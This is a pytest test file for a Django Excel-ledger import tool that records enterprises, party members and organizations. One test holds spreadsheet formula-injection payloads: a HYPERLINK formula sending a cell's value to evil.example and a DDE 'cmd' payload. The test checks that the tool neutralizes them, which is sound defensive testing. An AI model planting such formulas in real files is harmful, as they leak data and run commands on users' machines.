"""What a file says and what becomes of it, cell by cell: nothing is dropped without a word, nothing done twice."""

import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.test import Client
from openpyxl.styles import Font
from openpyxl.worksheet.datavalidation import DataValidation

from enterprises.models import Enterprise, Headcount
from instructors.models import Assignment, Instructor
from ledgers.models import Conflict, Upload, UploadState
from organizations.models import Cover, Member, PartyOrganization, SecretaryTerm
from tests import make
from tests.uploading import xlsx

pytestmark = pytest.mark.django_db
D = dt.date


PEOPLE = ["姓名", "出生日期", "党员类别", "确定积极分子时间", "确定发展对象时间", "入党时间", "转正时间", "岗位", "生产经营一线"]  # fmt: skip


def with_part(content: bytes, name: str, old: str, new: str) -> bytes:
    """The workbook with `new` in place of `old` in one of its parts."""
    changed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(changed, "w") as target:
        for part in source.namelist():
            text = source.read(part)
            if part == name:
                assert old.encode() in text, text
                text = text.replace(old.encode(), new.encode())
            target.writestr(part, text)
    return changed.getvalue()


def spans(name: str) -> list[tuple]:
    stages = Member.objects.get(name=name).stages.order_by("start")
    return [(each.stage, each.start, each.end) for each in stages]


def test_stage_dates_are_mended_and_missing_stages_put_in(post):
    def take(day: str, *cells, problems: int = 0) -> Upload:
        upload = post(xlsx(PEOPLE, ["李员", "1985-01-01", *cells]), as_of=day)
        assert not upload.errors and upload.warnings == problems, upload.problems
        return post.commit(upload)

    take("2023-01-01", "正式党员", None, None, "2009-03-01", "2010-03-05")
    assert spans("李员") == [("probationary", D(2009, 3, 1), D(2010, 3, 5)), ("full", D(2010, 3, 5), None)]
    # Both move, each past where the other was; one was left out.
    upload = take("2023-01-02", "正式党员", "2009-05-01", None, "2010-04-10", "2011-04-14")
    assert spans("李员") == [
        ("activist", D(2009, 5, 1), D(2010, 4, 10)),
        ("probationary", D(2010, 4, 10), D(2011, 4, 14)),
        ("full", D(2011, 4, 14), None),
    ]
    assert {(each["what"], each["new"]) for each in upload.differences} == {
        ("预备党员开始日期", "2010-04-10"),
        ("正式党员开始日期", "2011-04-14"),
        ("发展阶段", "入党积极分子（2009-05-01 起）"),
    }
    # 入党时间 alone is still the beginning of the probation.
    take("2023-01-03", "正式党员", None, None, "2010-05-01")
    assert spans("李员")[1] == ("probationary", D(2010, 5, 1), D(2011, 4, 14))
    # What contradicts the others is said and left out.
    wrong = take("2023-01-04", "正式党员", None, None, "2012-05-01", problems=1)
    assert wrong.changes == 0 and "先后不符" in wrong.problems[0]["message"]


def test_going_on_keeps_the_stages_between(post):
    def take(day: str, *cells) -> Upload:
        return post.commit(post(xlsx(PEOPLE, ["李员", "1985-01-01", *cells]), as_of=day))

    take("2020-01-01", "积极分子", "2019-01-01")
    take("2023-01-01", "预备党员", "2019-01-01", "2020-06-01", "2022-06-01")
    assert spans("李员") == [
        ("activist", D(2019, 1, 1), D(2020, 6, 1)),
        ("candidate", D(2020, 6, 1), D(2022, 6, 1)),
        ("probationary", D(2022, 6, 1), None),
    ]


INSTRUCTORS = ["指导员姓名", "联系电话", "工作单位及职务", "指导企业", "派驻时间", "结束时间"]


def test_an_ended_assignment_comes_in_once_and_its_end_can_be_mended(post, two_enterprises):
    def take(ended: str) -> list:
        row = ["程某", "13800000001", None, "东方商贸有限公司", "2020-01-05", ended]
        upload = post(xlsx(INSTRUCTORS, row), name=f"{ended}.xlsx")
        if upload.changes:
            post.commit(upload)
        return [upload.changes, *Assignment.objects.filter(instructor__name="程某").values_list("start", "end")]

    assert take("2021-06-01")[1:] == [(D(2020, 1, 5), D(2021, 6, 1))]
    assert take("2021-06-01 ") == [0, (D(2020, 1, 5), D(2021, 6, 1))]
    assert take("2021-07-01") == [1, (D(2020, 1, 5), D(2021, 7, 1))]


def test_a_new_phone_is_the_same_instructors_and_rows_that_differ_are_said(post, two_enterprises, east):
    make.enterprise(east, "南方食品有限公司")
    rows = [
        ["程某", "13800000001", "甲单位", "东方商贸有限公司", "2020-01-05", None],
        ["程某", "13800000001", "甲单位", "南方食品有限公司", "2020-01-05", None],
    ]
    post.commit(post(xlsx(INSTRUCTORS, *rows)))
    rows[0][1:3] = ["13900000009", "乙单位"]
    upload = post(xlsx(INSTRUCTORS, *rows), name="改.xlsx")
    assert [each["what"] for each in upload.differences] == ["联系电话", "工作单位及职务"], upload.differences
    assert [each["column"] for each in upload.problems] == ["B", "C"] and "第 2 行" in upload.problems[0]["message"]
    post.commit(upload)
    assert Instructor.objects.filter(name="程某").values_list("phone", "unit").get() == ("13900000009", "乙单位")


def test_what_a_cell_says_is_never_dropped_without_a_word(post, two_enterprises):
    first = two_enterprises.first
    mass = ["企业名称", "统一社会信用代码", "工会", "共青团", "妇联", "工会不具备条件的原因"]
    upload = post(xlsx(mass, ["别的名字", first.credit_code, "是", None, None, "人少"]))
    said = " ".join(each["message"] for each in upload.problems)
    assert "登记的是“东方商贸有限公司”" in said and "原因没有导入" in said and upload.warnings == 2
    ledger = ["企业名称", "统一社会信用代码", "党员总数", "正式党员数", "指导员姓名", "指导员电话", "派驻时间"]
    upload = post(xlsx(ledger, [first.name, first.credit_code, 9, 4, None, "13800000001", "2020-01-01"]))
    assert [each["column"] for each in upload.problems] == ["C", "F", "G"], upload.problems


def test_former_names_are_added_to(post, two_enterprises):
    first = two_enterprises.first
    heads = ["企业名称", "统一社会信用代码", "成立日期", "曾用名"]
    post.commit(post(xlsx(heads, [first.name, first.credit_code, "2015-01-01", "老名字，更老的名字"])))
    upload = post.commit(post(xlsx(heads, ["改名公司", first.credit_code, "2015-01-01", "老名字"])))
    first.refresh_from_db()
    assert (first.name, first.former_names) == ("改名公司", "老名字、更老的名字、东方商贸有限公司")
    assert [each["what"] for each in upload.differences] == ["企业名称"]


def test_of_rows_about_one_organization_the_first_is_believed(post, two_enterprises, east):
    make.enterprise(east, "南方食品有限公司")
    heads = ["企业名称", "统一社会信用代码", "是否建立党组织", "党组织名称", "组建方式", "党组织成立时间", "书记姓名", "书记来源"]  # fmt: skip
    joint = ["是", "中共联合支部委员会", "联合组建", "2019-01-01", "书某", "机关干部"]
    names = ["东方商贸有限公司", "南方食品有限公司"]
    post.commit(post(xlsx(heads, *([name, None, *joint] for name in names))))
    changed = [*joint[:2], "网格建立", *joint[3:5], "公开招聘"]
    upload = post(xlsx(heads, [names[0], None, *changed], [names[1], None, *joint]), name="改.xlsx")
    assert [each["row"] for each in upload.differences] == [2, 2], upload.differences
    assert [(each["row"], each["column"]) for each in upload.problems] == [(3, "E"), (3, "H")], upload.problems


def test_what_is_said_beside_a_no_is_reported(post, two_enterprises):
    heads = ["企业名称", "统一社会信用代码", "是否建立党组织", "党组织成立时间", "书记姓名"]
    upload = post(xlsx(heads, ["新公司", make.credit_code(5), "否", "2019-01-01", "书某"]))
    assert [each["column"] for each in upload.problems] == ["D", "E"]


def test_a_chain_of_uploads_is_taken_back_one_by_one(post):
    def take(number: int) -> Upload:
        heads = ["企业名称", "统一社会信用代码", "成立日期", "职工人数"]
        rows = xlsx(heads, ["甲公司", make.credit_code(5), "2015-01-01", number])
        return post.commit(post(rows, as_of=f"2023-12-{20 + number}"))

    def undo(upload: Upload) -> str:
        post.client.post(f"/ledgers/{upload.pk}/undo/")
        upload.refresh_from_db()
        return upload.state

    first, second, third = take(1), take(2), take(3)
    assert undo(second) == UploadState.COMMITTED and "职工 2" in second.note, second.note
    assert [undo(each) for each in (third, second, first)] == [UploadState.UNDONE] * 3
    assert not Enterprise.objects.exists() and not Headcount.objects.exists()


def test_no_formula_lives_on_in_the_marked_up_copy(post):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["企业名称", "统一社会信用代码", "职工人数", "备注"])
    sheet.append(["甲公司", make.credit_code(1), "十来个", '=HYPERLINK("http://evil.example/"&B2,"详情")'])
    sheet.append(["乙公司", make.credit_code(2), "=1+1", "=cmd|'/C calc'!A0"])
    sheet["D3"].data_type = "f"
    content = io.BytesIO()
    book.save(content)
    # As a spreadsheet program leaves it, which has calculated the number.
    upload = post(with_part(content.getvalue(), "xl/worksheets/sheet1.xml", "<f>1+1</f><v />", "<f>1+1</f><v>2</v>"))
    marked = post.client.get(f"/ledgers/{upload.pk}/marked/").content
    copy = openpyxl.load_workbook(io.BytesIO(marked))
    cells = [cell for sheet in copy.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert copy["Sheet"]["C3"].value == 2
    assert copy["Sheet"]["D2"].value.startswith("'=HYPERLINK(") and copy["Sheet"]["D3"].value.startswith("'=cmd|")


def test_the_marked_up_copy_keeps_what_the_user_made_of_it(post):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["企业名称", "统一社会信用代码", "成立日期", "职工人数"])
    sheet.append(["甲公司", make.credit_code(5), D(2015, 1, 1), "约五十"])
    sheet.column_dimensions["A"].width, sheet.row_dimensions[1].height, sheet.freeze_panes = 41, 33, "B2"
    sheet["A1"].font = Font(bold=True, name="黑体")
    sheet["C2"].number_format = 'yyyy"年"m"月"'
    rule = DataValidation(type="list", formula1='"是,否"')
    rule.add("E2:E9")
    sheet.add_data_validation(rule)
    sheet.merge_cells("F1:G1")
    book.create_sheet("藏着").sheet_state = "hidden"
    buffer = io.BytesIO()
    book.save(buffer)
    upload = post(buffer.getvalue())
    marked = openpyxl.load_workbook(io.BytesIO(post.client.get(f"/ledgers/{upload.pk}/marked/").content))
    kept = marked["Sheet"]
    assert (kept.column_dimensions["A"].width, kept.row_dimensions[1].height, kept.freeze_panes) == (41, 33, "B2")
    assert kept["A1"].font.b and kept["A1"].font.name == "黑体" and kept["C2"].number_format == 'yyyy"年"m"月"'
    assert kept.data_validations.dataValidation[0].sqref == rule.sqref and "F1:G1" in map(str, kept.merged_cells.ranges)
    assert marked["藏着"].sheet_state == "hidden" and "应为整数" in kept["D2"].comment.text
    link = marked["问题清单"].cell(3, 3).hyperlink
    assert "D2" in (link.location or link.target)


def test_the_registration_template_is_taken_for_one(post, two_enterprises):
    book = openpyxl.load_workbook(io.BytesIO(post.client.get("/ledgers/templates/registration_list/").content))
    sheet, first = book.active, two_enterprises.first
    headings = {str(cell.value).rstrip("*"): cell.column for cell in sheet[3]}
    said = {"企业名称": first.name, "统一社会信用代码": first.credit_code, "登记状态": "注销", "注销日期": "2023-05-06"}
    for heading, value in said.items():
        sheet.cell(4, headings[heading]).value = value
    buffer = io.BytesIO()
    book.save(buffer)
    for asked in ("", "registration_list"):
        upload = post(buffer.getvalue(), kind=asked)
        assert upload.state == UploadState.COMPARED, upload.problems
        assert [each["kind"] for each in upload.findings] == ["closed"]


def test_a_dissolution_says_what_it_does(post, two_enterprises):
    body = PartyOrganization.objects.get(name__contains="东方")
    SecretaryTerm.objects.create(organization=body, name="书某", start=D(2022, 12, 25))
    heads = ["党组织名称", "成立时间", "撤销时间", "书记"]
    upload = post(xlsx(heads, [body.name, "2010-01-01", "2022-05-06", None]))
    assert any(each["what"] == "书记任期" and "去掉" in each["new"] for each in upload.differences), upload.differences
    post.commit(upload)
    assert not SecretaryTerm.objects.filter(name="书某").exists()
    assert Cover.objects.get(organization=body).end == D(2022, 5, 6)


def test_a_column_that_is_not_imported_stays_in_sight(post):
    heads = ["企业名称", "统一社会信用代码", "成立日期", "职工人数"]
    upload = post(xlsx(heads, ["甲公司", make.credit_code(5), "2015-01-01", 33]))
    number = [each["heading"] for each in upload.columns].index("职工人数")
    post.client.post(f"/ledgers/{upload.pk}/mapping/", {f"field-{number}": "-", f"heading-{number}": "职工人数"})
    upload.refresh_from_db()
    assert upload.columns[-1]["field"] == "-"
    assert "手工指定：不导入" in post.client.get(f"/ledgers/{upload.pk}/").content.decode()
    number = len(upload.columns) - 1
    post.client.post(
        f"/ledgers/{upload.pk}/mapping/", {f"field-{number}": "employees", f"heading-{number}": "职工人数"}
    )
    upload.refresh_from_db()
    post.commit(upload)
    assert Headcount.objects.get().employees == 33


def test_a_file_of_another_committee_raises_no_conflicts(post, two_enterprises):
    code = two_enterprises.second.credit_code
    rows = [["企业名称", "统一社会信用代码", "成立日期"], ["西山物流有限公司", code, "2016-01-01"]]
    post.commit(post(xlsx(["填报单位：西苑办事处"], *rows)), skip_bad_rows="1")
    assert not Conflict.objects.exists()
    post.commit(post(xlsx(["填报单位：东关办事处"], *rows)), skip_bad_rows="1")
    assert Conflict.objects.count() == 1


def test_a_possible_second_record_of_one_person_is_said(post):
    heads = ["姓名", "身份证号", "党员类别", "入党时间"]
    post.commit(post(xlsx(heads, ["李员", "11010519491231002X", "正式党员", "1990-07-01"])))
    other = post(xlsx(heads, ["李员", "110105194912310038", "正式党员", "1990-07-01"]))
    assert "同名、同日出生" in str(other.problems) and "002X" not in str(other.problems), other.problems
    # Whose number is known is not asked for it again.
    assert not post(xlsx(heads, ["李员", None, "正式党员", "1990-07-01"])).problems


def test_what_is_missing_is_named(post):
    rows = [
        ["填报时间：2023年12月20日"],
        ["序号", "统一社会信用代码", "职工人数", "是否建立党组织"],
        [1, make.credit_code(5), 3, "是"],
    ]
    upload = post(xlsx(*rows), as_of="")
    said = str(upload.problems)
    assert upload.state == UploadState.REFUSED and "缺少“企业名称”" in said and upload.as_of == D(2023, 12, 20), said


def test_a_workbook_of_two_kinds_tells_everything_and_changes_nothing_the_second_time(post):
    book = openpyxl.Workbook()
    for row in (["企业名称", "统一社会信用代码", "职工人数"], ["甲公司", make.credit_code(5), 33]):
        book.active.append(row)
    mass = book.create_sheet("群团")
    for row in (["企业名称", "工会", "工会建立时间", "妇联"], ["甲公司", "√", "2022年1月", "联合"]):
        mass.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    upload = post.commit(post(buffer.getvalue()))
    assert [each["what"] for each in upload.differences] == ["企业", "工会", "妇联"], upload.differences
    again = post(buffer.getvalue())
    assert (again.changes, again.counts["same"]) == (0, 2), again.differences


def test_what_the_district_has_settled_can_then_be_imported(post, two_enterprises, cast, client):
    second = two_enterprises.second
    rows = [["企业名称", "统一社会信用代码", "成立日期"], [second.name, second.credit_code, "2016-01-01"]]
    upload = post.commit(post(xlsx(*rows)), skip_bad_rows="1")
    conflict = Conflict.objects.get()
    assert "<b>1</b>冲突" in post.client.get(f"/ledgers/{upload.pk}/").content.decode()
    district = Client()
    district.force_login(cast.wei, backend="django.contrib.auth.backends.ModelBackend")
    address = f"/ledgers/conflicts/{conflict.pk}/"
    assert 'value="2023-12-20"' in district.get(address).content.decode()
    district.post(address, {"decision": "claimed", "reason": "已搬迁"})
    page = post.client.get(f"/ledgers/{upload.pk}/").content.decode()
    assert "冲突已经核定，请把这些行再传一次" in page
    upload = post(xlsx(*rows))
    assert not upload.errors, upload.problems
    assert post.commit(upload).state == UploadState.COMMITTED
    answer = district.get(address, follow=True)
    assert "已搬迁" in answer.content.decode() and answer.redirect_chain


def test_an_error_value_is_shown_as_it_stands(post):
    book = openpyxl.Workbook()
    book.active.append(["企业名称", "统一社会信用代码", "成立日期", "职工人数"])
    book.active.append(["甲公司", make.credit_code(5), "2015-01-01", "#N/A"])
    book.active["D2"].data_type = "e"
    buffer = io.BytesIO()
    book.save(buffer)
    upload = post(buffer.getvalue())
    assert [each["value"] for each in upload.problems] == ["#N/A"], upload.problems


def test_uploads_are_found_by_name_kind_and_state(post):
    heads = ["企业名称", "统一社会信用代码", "成立日期"]
    post(xlsx(heads, ["甲公司", make.credit_code(5), "2015-01-01"]), name="春.xlsx")
    post(xlsx(["姓名", "党员类别", "入党时间"], ["李员", "正式党员", "1990-07-01"]), name="秋.xlsx")
    for query, shown, hidden in (("q=春", "春.xlsx", "秋.xlsx"), ("kind=member_roster", "秋.xlsx", "春.xlsx")):
        page = post.client.get(f"/ledgers/?{query}").content.decode()
        assert shown in page and hidden not in page
    assert "没有上传过" in post.client.get("/ledgers/?state=committed").content.decode()
    assert "春.xlsx" in post.client.get("/ledgers/?state=zz&kind=zz").content.decode()
